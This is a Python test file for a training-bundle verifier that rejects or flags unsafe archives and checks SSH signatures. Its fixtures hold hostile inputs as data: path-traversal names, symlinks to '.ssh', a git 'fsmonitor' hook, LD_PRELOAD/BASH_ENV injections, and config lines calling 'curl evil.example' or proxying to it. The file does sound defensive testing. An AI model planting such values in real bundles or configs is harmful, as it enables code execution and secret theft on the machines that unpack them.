"""Bundles that somebody else made: what is refused, what is listed, and what a signature adds."""

import hashlib
import io
import json
import subprocess
import tarfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

from prime_train.errors import UsageError
from prime_train.interop.bundle.layout import NAMESPACE
from prime_train.interop.bundle.ssh_signature import fingerprint, public_key, sign, signing_key
from prime_train.interop.bundle.verify import VerifiedBundle, verify_bundle

RUN = "demo-x4k2p"
CONFIG = (
    'name: demo\ntrainer: {command: "python train.py", code: {folder: code}}\nhardware: {gpus: '
    "[H100], "
    "count: 1}\nbudget: {usd: 1}\n"
)


def tar_of(members: Mapping[str, bytes | str]) -> bytes:
    """Return an archive; a text is the target of a link."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as tar:
        for path, content in members.items():
            info = tarfile.TarInfo(path)
            if isinstance(content, str):
                info.type, info.linkname = tarfile.SYMTYPE, content
                tar.addfile(info)
            else:
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
    return packed.getvalue()


def bundle(
    folder: Path,
    *,
    code: Mapping[str, bytes | str] | None = None,
    config: str = CONFIG,
    more: Mapping[str, bytes] | None = None,
    key: Path | None = None,
) -> Path:
    archive = tar_of({"train.py": b"x"} if code is None else code)
    code_facts = {"repository": None, "commit": None, "sha256": hashlib.sha256(archive).hexdigest()}
    about = {
        "format": "prime-train-bundle-1",
        "run": RUN,
        "name": "demo",
        "code": code_facts,
        "checkpoint": None,
    }
    files = {
        "README.md": b"hi",
        "metrics.csv": b"step",
        "page.html": b"hi",
        "code.tar.gz": archive,
        "config.yaml": config.encode(),
    }
    files |= {"run.json": json.dumps(about).encode(), **(more or {})}
    sums = "".join(f"{hashlib.sha256(data).hexdigest()}  {path}\n" for path, data in files.items()).encode()
    files["SHA256SUMS"] = sums
    if key is not None:
        files["SHA256SUMS.sig"] = sign(sums, signing_key(key, str), NAMESPACE)
    path = folder / f"{RUN}.tar.gz"
    path.write_bytes(tar_of({f"{RUN}/{name}": data for name, data in files.items()}))
    return path


def wrong(found: VerifiedBundle) -> list[str]:
    assert found.verdict == "UNSAFE"
    return [f"{one.path} {one.what}" for one in found.wrong_files]


def test_a_plain_bundle_is_intact_and_says_what_that_does_not_prove(tmp_path: Path) -> None:
    found = verify_bundle(bundle(tmp_path))
    assert (found.verdict, found.wrong_files, found.signed_by) == ("intact", (), "")
    assert found.risks == ("trainer.command: runs python train.py",)
    assert (
        found.not_proven
        == "Hashes show damage. They do not prove who made the bundle, nor that its code and commands are "
        "harmless."
    )


@pytest.mark.parametrize("name", [".git/config", "a/.GIT/HEAD", "git~1/config", ".git /config"])
def test_a_git_folder_anywhere_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(UsageError, match="git runs commands"):
        verify_bundle(bundle(tmp_path, more={name: b"x"}))
    assert any(
        "git runs commands" in one for one in wrong(verify_bundle(bundle(tmp_path, code={name: b"x"})))
    )


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ({"../evil.py": b"x"}, "lies outside of its folder"),
        ({"/etc/evil": b"x"}, "lies outside of its folder"),
        ({"keys": "../../.ssh"}, "is a link out of its folder"),
        ({"a.py": b"x", "A.py": b"y"}, "which differ only in case"),
        ({"store": ".git", "store/config": b"[core]"}, "is a link to .git"),
        ({"data/x": b"x", "into": "data", "into/x": b"y"}, "which lies behind a link"),
    ],
)
def test_code_that_would_reach_out_of_its_folder_is_refused(
    tmp_path: Path, code: Mapping[str, bytes | str], said: str
) -> None:
    assert any(said in one for one in wrong(verify_bundle(bundle(tmp_path, code=code))))


def test_links_inside_and_usual_files_of_a_repository_are_fine_and_the_latter_listed(tmp_path: Path) -> None:
    code: dict[str, bytes | str] = {
        "train.py": b"x",
        "latest": "train.py",
        ".github/workflows/ci.yml": b"x",
        ".vscode/tasks.json": b"x",
    }
    found = verify_bundle(bundle(tmp_path, code=code))
    assert found.verdict == "intact"
    assert any(".github/workflows/ci.yml" in one and ".vscode/tasks.json" in one for one in found.risks)


def test_files_of_the_bundle_itself_that_run_by_themselves_are_refused(tmp_path: Path) -> None:
    assert any(
        one.startswith(".envrc ") for one in wrong(verify_bundle(bundle(tmp_path, more={".envrc": b"x"})))
    )


def test_a_config_that_packs_a_folder_elsewhere_is_refused(tmp_path: Path) -> None:
    for folder in ("/home/you", "../..", "~/.ssh"):
        found = verify_bundle(bundle(tmp_path, config=CONFIG.replace("folder: code", f"folder: '{folder}'")))
        assert any(folder in one and "outside" in one for one in wrong(found))


def test_what_a_config_asks_for_is_listed(tmp_path: Path) -> None:
    config = """\
name: demo
trainer: {command: python train.py, code: {folder: code}}
setup: [pip install x, make]
environment: {LD_PRELOAD: ./x.so}
secrets: [HF_TOKEN]
alerts: {webhook: MY_HOOK}
hardware: {provider: local}
budget: {usd: 1}
"""
    found = verify_bundle(bundle(tmp_path, config=config))
    text = "\n".join(found.risks)
    assert found.verdict == "intact"
    for word in ("provider local", "HF_TOKEN", "2 of setup", "LD_PRELOAD", "MY_HOOK"):
        assert word in text


def test_what_a_config_asks_for_only_on_some_machines_or_after_training_is_listed_too(tmp_path: Path) -> None:
    config = """\
name: demo
trainer: {command: python train.py, code: {folder: code}}
hardware:
  variants:
  - {count: 1, set: {trainer.command: curl evil.example, environment.LD_AUDIT: ./x.so, environment.HF_ENDPOINT: "https://evil.example"}}
after: [{name: eval, run: python eval.py, env: {BASH_ENV: ./x.sh, HTTPS_PROXY: "http://evil.example"}}]
budget: {usd: 1}
"""
    text = "\n".join(verify_bundle(bundle(tmp_path, config=config)).risks)
    for word in ("variant 1", "trainer.command", "LD_AUDIT", "HF_ENDPOINT", "BASH_ENV", "HTTPS_PROXY"):
        assert word in text


@pytest.fixture
def key(tmp_path: Path) -> Path:
    return made(tmp_path / "id_ed25519")


def made(path: Path) -> Path:
    pair = Ed25519PrivateKey.generate()
    path.write_bytes(pair.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption()))
    path.with_suffix(".pub").write_bytes(
        pair.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    )
    return path


def test_a_signed_bundle_passes_for_its_signer_and_for_nobody_else(tmp_path: Path, key: Path) -> None:
    mine, other = (public_key(str(path.with_suffix(".pub"))) for path in (key, made(tmp_path / "other")))
    file = bundle(tmp_path, key=key)
    unchecked, checked = verify_bundle(file), verify_bundle(file, signer=mine)
    assert (unchecked.verdict, unchecked.signed_by, unchecked.signer_checked) == (
        "intact",
        fingerprint(mine),
        False,
    )
    assert (checked.verdict, checked.signer_checked) == ("intact", True)
    assert "no signature proves" in checked.not_proven
    assert any("is by another key" in one for one in wrong(verify_bundle(file, signer=other)))
    assert any("nobody has signed" in one for one in wrong(verify_bundle(bundle(tmp_path), signer=mine)))


def test_a_signature_of_other_hashes_is_refused_though_no_signer_was_named(tmp_path: Path, key: Path) -> None:
    signature = sign(b"other hashes\n", signing_key(key, str), NAMESPACE)
    assert any(
        "no valid signature" in one
        for one in wrong(verify_bundle(bundle(tmp_path, more={"SHA256SUMS.sig": signature})))
    )


def test_what_a_bundle_has_is_checked_by_sha256sum_too(tmp_path: Path, key: Path) -> None:
    subprocess.run(["tar", "-xzf", str(bundle(tmp_path, key=key)), "-C", str(tmp_path)], check=True)
    subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=tmp_path / RUN, check=True)


def test_folders_that_make_files_a_repository_are_seen_though_nothing_lies_in_them(tmp_path: Path) -> None:
    """`git status` in `curves` would run what the config names."""
    more = {
        "curves/HEAD": b"ref: refs/heads/main\n",
        "curves/config": b"[core]\n\tfsmonitor = touch /tmp/x\n",
    }
    assert verify_bundle(bundle(tmp_path, more=more)).verdict == "intact", (
        "without the folders git takes it for none"
    )
    path = with_folders(bundle(tmp_path, more=more), "curves/objects", "curves/REFS")
    assert any(
        "curves/HEAD would be laid down" in one and "git runs commands" in one
        for one in wrong(verify_bundle(path))
    )
    with pytest.raises(UsageError, match="differ only in case"):
        verify_bundle(with_folders(bundle(tmp_path, more=more), "Curves/objects", "Curves/refs"))


def test_a_folder_beside_the_bundles_own_is_refused(tmp_path: Path) -> None:
    path = with_folders(bundle(tmp_path), "../refs")
    with pytest.raises(UsageError, match="is not a bundle"):
        verify_bundle(path)


def folder_of(name: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.mode = tarfile.DIRTYPE, 0o755
    return info


def with_folders(path: Path, *folders: str) -> Path:
    """Return the bundle with these empty folders in it."""
    packed = io.BytesIO()
    with tarfile.open(path) as tar, tarfile.open(fileobj=packed, mode="w:gz") as made:
        for info in tar.getmembers():
            made.addfile(info, tar.extractfile(info))
        for folder in folders:
            made.addfile(
                folder_of(folder.removeprefix("../") if folder.startswith("../") else f"{RUN}/{folder}")
            )
    path.write_bytes(packed.getvalue())
    return path
